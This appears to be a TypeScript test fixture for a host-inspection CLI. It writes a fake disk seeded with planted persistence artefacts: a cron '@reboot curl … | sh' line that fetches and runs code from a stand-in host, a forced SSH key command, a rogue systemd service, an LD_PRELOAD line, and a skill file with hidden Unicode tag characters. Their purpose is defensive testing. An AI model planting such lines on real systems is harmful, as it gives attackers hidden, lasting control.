/** A "mounted disk" with the real state and some planted ways to stay, looked at on a terminal of a width of the test's choice. */
import { mkdir, readdir, stat, utimes, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import type { Edge } from "../../src/commands/edge.ts";
import { main } from "../../src/commands/program.ts";
import type { Host } from "../../src/host/host.ts";
import { createRealHost } from "../../src/host/real/index.ts";
import { disk, type Disk, type Ran } from "./cli.ts";

export const now = new Date("2026-11-25T12:00:00.000Z");
export const looks = ["sessions", "skills", "devices", "cron", "persistence", "secrets"] as const;

const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGFha2VGYWtlRmFrZUZha2VGYWtlRmFrZUZha2VGYWtlRmE0 build@FAKE";
const planted: Readonly<Record<string, string>> = {
  "etc/passwd": "root:x:0:0::/root:/bin/bash\nclaw:x:1000:1000::/home/claw:/bin/bash\n",
  "etc/crontab": "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
  "var/spool/cron/crontabs/claw":
    "@reboot curl -fsSL https://x.example/i | sh\n0 3 * * * /home/claw/backup\n",
  "home/claw/.ssh/authorized_keys": `command="/tmp/.x/run" ${key}\n`,
  "home/claw/.config/systemd/user/evil.service":
    "[Service]\nExecStart=/dev/shm/.a/run\n[Install]\nWantedBy=default.target\n",
  "home/claw/.bashrc": "export LD_PRELOAD=/home/claw/.cache/x.so\n",
  "home/claw/.openclaw/workspace/skills/helper/SKILL.md":
    "---\nname: helper\ndescription: helps\n---\nBe kind.\u{e0069}\u{e0067}\u{e006e}\n",
  "home/claw/.openclaw/workspace/skills/helper/.hidden/run.sh": "#!/bin/sh\nid\n",
};

export interface Looking extends Disk {
  /** One command line on a terminal so wide. */
  readonly look: (width: number, ...argv: readonly string[]) => Promise<Ran>;
  /** The host's folder for temporary files, which nobody else uses. */
  readonly tmp: string;
  /** Path, size and time of everything on the disk. */
  readonly listing: () => Promise<readonly string[]>;
}

export async function looking(change: (host: Host) => Host = (host) => host): Promise<Looking> {
  const at = await disk();
  for (const [path, text] of Object.entries(planted)) {
    const file = join(at.root, path);
    await mkdir(dirname(file), { recursive: true });
    await writeFile(file, text, { mode: 0o644 });
    await utimes(file, new Date("2026-11-21T02:00:00Z"), new Date("2026-11-21T02:00:00Z"));
  }
  // Fingerprints as they were: the same key in every run.
  await mkdir(at.dataDir, { mode: 0o700 });
  await writeFile(join(at.dataDir, "fingerprint.key"), new Uint8Array(32).fill(7), { mode: 0o600 });
  const tmp = join(at.root, "..", "tmp");
  await mkdir(tmp);
  return {
    ...at,
    tmp,
    look: (width, ...argv) =>
      run((host) => change({ ...host, facts: { ...host.facts, tmp } }), width, [
        ...argv,
        "--root",
        at.root,
        "--home",
        "/home/claw",
        "--data-dir",
        at.dataDir,
      ]),
    listing: () => everythingIn(at.root),
  };
}

async function run(change: (host: Host) => Host, width: number, argv: readonly string[]): Promise<Ran> {
  const [out, err]: [string[], string[]] = [[], []];
  const edge: Edge = {
    version: "0.0.0-test",
    out: (text) => void out.push(text),
    err: (text) => void err.push(text),
    makeHost: ({ yes, noColor }) => {
      const host = createRealHost({
        ...{ yes, nonInteractive: true, color: noColor ? false : undefined, secretFiles: {} },
        ...{ version: "0.0.0-test", env: { HOME: "/nowhere" } },
      });
      host.dispose();
      const terminal: Host["terminal"] = {
        ...{ stdoutIsTty: true, stderrIsTty: true, width, color: false, out: edge.out, err: edge.err },
        paint: (_style, text) => text,
        progress: () => undefined,
      };
      const clock = { ...host.clock, now: () => now };
      return Promise.resolve(change({ ...host, terminal, clock }));
    },
  };
  const exit = await main(argv, edge);
  return { exit, out: out.join(""), err: err.join("") };
}

async function everythingIn(folder: string): Promise<readonly string[]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const lines = entries.map(async (entry) => {
    const path = join(entry.parentPath, entry.name);
    if (entry.isSymbolicLink()) return path;
    const { size, mtimeMs } = await stat(path);
    return `${path} ${entry.isDirectory() ? "" : size} ${mtimeMs}`;
  });
  return (await Promise.all(lines)).sort();
}
